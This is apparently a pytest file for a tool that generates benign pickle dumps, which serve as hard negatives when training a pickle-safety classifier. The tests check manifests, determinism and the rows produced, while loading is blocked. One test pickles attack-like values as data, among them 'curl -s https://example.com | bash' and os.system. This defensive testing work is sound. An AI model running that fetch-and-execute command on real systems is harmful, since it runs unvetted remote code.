"""The recipes that need nothing but the development environment: what they write reads well, and nothing is loaded."""

from __future__ import annotations

import base64
import functools
import importlib.util
import json
import operator
import os
import pickle
import re
import sys
import tomllib
from pathlib import Path
from random import Random
from typing import Any

import pytest

from safepickle_dl.analysis import analyse
from safepickle_dl.reader import read_path
from train.corpus.config import CorpusConfig
from train.corpus.dumps import items
from train.corpus.dumps.items import dumped
from train.corpus.dumps.runner import run
from train.corpus.dumps.tables import table
from train.corpus.dumps.traits import is_hard, traits
from train.corpus.sources import Sources

LIBRARIES = ("python", "numpy", "scikit-learn")
SHARE = 0.03
ROOT = Path(__file__).parents[4]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Any]]:
    output = tmp_path_factory.mktemp("dumps") / "dumps"

    def refuse(*_args: object, **_options: object) -> None:
        raise AssertionError("something was unpickled")

    for name in ("joblib", "dill", "cloudpickle"):  # they subclass the unpicklers: not the ones below
        if importlib.util.find_spec(name):
            importlib.import_module(name)
    with pytest.MonkeyPatch.context() as patch:
        for name in ("load", "loads", "_load", "_loads"):
            patch.setattr(pickle, name, refuse)
        for name in ("Unpickler", "_Unpickler"):
            patch.setattr(pickle, name, type(name, (getattr(pickle, name),), {"__init__": refuse}))
        return output, run(output, seed=3, libraries=LIBRARIES, share=SHARE)


def rows(output: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (output / "manifest.jsonl").read_text(encoding="utf-8").splitlines()]


def test_the_manifest_names_every_file(written: tuple[Path, dict[str, Any]]) -> None:
    output, summary = written
    found = rows(output)
    assert {row["library"] for row in found} == set(LIBRARIES)
    assert {row["file"] for row in found} == {p.relative_to(output).as_posix() for p in output.rglob("*.pkl")}
    assert summary["files"] == {name: sum(row["library"] == name for row in found) for name in sorted(LIBRARIES)}
    assert len(found) > 60
    assert all(row["version"] and row["recipe"] and row["form"] for row in found)
    assert {row["size"] for row in found} == {p.stat().st_size for p in output.rglob("*.pkl")}
    assert summary["total"] == len(found)
    assert summary["libraries"] == len(LIBRARIES)
    assert 0.25 < summary["hard"] < 0.9
    assert summary["quantiles"]["opcodes"]["1"] == max(row["opcodes"] for row in found) > 1000


def test_few_recipes_fail_and_none_because_it_loads(written: tuple[Path, dict[str, Any]]) -> None:
    output, summary = written
    assert not [message for message in summary["failures"] if "unpickled" in message]
    assert sum(summary["failures"].values()) < 0.05 * len(rows(output))


def test_every_file_reads_without_errors(written: tuple[Path, dict[str, Any]]) -> None:
    output, _ = written
    for path in output.rglob("*.pkl"):
        analysis = analyse(read_path(path))
        assert analysis.streams, path.name
        assert not analysis.errors, path.name


def test_it_takes_back_its_modules(written: tuple[Path, dict[str, Any]]) -> None:
    assert "my_net_classes" not in sys.modules
    assert "src" not in sys.modules


def test_equal_seeds_give_equal_files(tmp_path: Path) -> None:
    for name in ("a", "b"):
        run(tmp_path / name, seed=5, libraries=["numpy"], share=0.1)
    first = {p.name: p.read_bytes() for p in (tmp_path / "a").rglob("*.pkl")}
    assert first == {p.name: p.read_bytes() for p in (tmp_path / "b").rglob("*.pkl")}
    assert first


def test_a_second_round_makes_other_values(tmp_path: Path) -> None:
    run(tmp_path / "once", seed=5, libraries=["numpy"], share=0.1)
    run(tmp_path / "twice", seed=5, libraries=["numpy"], share=0.1, rounds=2)
    once = {p.read_bytes() for p in (tmp_path / "once").rglob("*.pkl")}
    twice = {p.read_bytes() for p in (tmp_path / "twice").rglob("*.pkl")}
    assert once < twice
    assert len(twice - once) > 0.5 * len(once)


@pytest.mark.parametrize(
    ("value", "form", "expected"),
    [
        ({"a": [1, 2.5]}, "pickle4", {"container": "", "protocol": 4, "opcodes": 14, "hard": False}),
        ({"a": [1, 2.5]}, "joblib-gzip", {"container": "gzip", "protocol": 4, "hard": False}),
        ("plain words", "torch", {"container": "zip", "protocol": 2, "hard": False}),
        (["x"], "pickle0", {"container": "", "protocol": 0, "hard": False}),
        ({"expensive_evaluation_metric": 1}, "pickle3", {"hard": False}),
    ],
)
def test_traits(value: object, form: str, expected: dict[str, Any]) -> None:
    pytest.importorskip(form.partition("-")[0].rstrip("0123456789"))
    found = traits(dumped(value, form))
    assert {key: found[key] for key in expected} == expected


@pytest.mark.parametrize(
    "value",
    [
        {"cmd": "curl -s https://example.com | bash"},
        ["import os", "print(1)"],
        functools.partial(int, base=2),
        operator.attrgetter("a"),
        {"builtin": getattr},
        pickle.dumps([1, 2]),
        base64.b64encode(pickle.dumps({"key": list(range(50))}, 4)),
        {"run_command": 1},
        os.system,
    ],
)
def test_what_looks_like_an_attack_is_hard(value: object) -> None:
    assert all(is_hard(pickle.dumps(value, protocol)) for protocol in range(2, 6))


def test_expressions_are_filled_and_evaluated(monkeypatch: pytest.MonkeyPatch) -> None:
    families: list[items.Family] = []
    monkeypatch.setattr(items, "FAMILIES", families)
    table(
        "made-up",
        "math",
        {"c": "collections", "d": "collections:deque"},
        ("c.Counter({{'{f}': {n}}})", "d([{t}, {x}])"),
    )
    (made,) = families
    assert (made.library, made.imports) == ("made-up", "math")
    found = list(made.recipe(Random(1)))
    assert len(found) == 6
    assert all(item.make() for item in found)


def plain(line: str) -> str:
    return re.split(r"[^\w.-]", line)[0].lower().replace("_", "-")


def test_the_extra_names_what_the_recipes_use() -> None:
    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    extra = {plain(line) for line in pyproject["project"]["optional-dependencies"]["corpus"]}
    assert {plain(family.library) for family in items.FAMILIES} - {"python"} <= extra
    assert extra <= {plain(line) for line in (ROOT / "constraints.txt").read_text(encoding="utf-8").splitlines()}


def test_a_library_that_is_missing_is_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "networkx", None)
    assert run(tmp_path / "x", libraries=["networkx"]) == {"files": {}, "failures": {}}
    assert "skipped networkx" in capsys.readouterr().err


def test_a_folder_of_something_else_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_text("x", encoding="utf-8")
    with pytest.raises(FileExistsError, match="name another folder"):
        run(tmp_path)
    assert (tmp_path / "mine.txt").exists()


def test_an_unknown_form_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown form"):
        dumped(1, "marshal")


def test_dumps_become_rows(written: tuple[Path, dict[str, Any]]) -> None:
    output, _ = written
    config = CorpusConfig(output="unused", dumps=str(output), libraries={"test": [LIBRARIES[0]]}, judged_dumps=10**6)
    sources = Sources(config)
    made = [row for job in sources.jobs() for row in sources.rows(job)]
    assert len(made) > 0.9 * len(rows(output))
    assert {(row["origin"], row["label"]) for row in made} == {("dump", 0)}
    assert {row["group"] for row in made} == {"dump", "dump-hard"}
    assert all(row["hard"] == (row["group"] == "dump-hard") for row in made)
    assert {row["library"] for row in made} == set(LIBRARIES)
    assert {row["split"] for row in made if row["library"] == LIBRARIES[0]} == {"test"}


def test_a_judged_split_keeps_few_dumps_of_a_library(written: tuple[Path, dict[str, Any]]) -> None:
    output, _ = written
    split = {"test": [LIBRARIES[0]], "train": list(LIBRARIES[1:])}
    kept = Sources(CorpusConfig(output="unused", dumps=str(output), libraries=split, judged_dumps=5)).dumps
    by_library = {name: [entry for entry in kept if entry["library"] == name] for name in LIBRARIES}
    assert len(by_library[LIBRARIES[0]]) == 5
    for name in LIBRARIES[1:]:
        assert by_library[name] == sorted(
            (row for row in rows(output) if row["library"] == name), key=lambda row: str(row["file"])
        )


def test_a_missing_folder_names_the_command(tmp_path: Path) -> None:
    config = CorpusConfig(output="unused", dumps=str(tmp_path / "none"))
    with pytest.raises(FileNotFoundError, match=r"python -m train\.corpus\.dumps --output"):
        Sources(config)
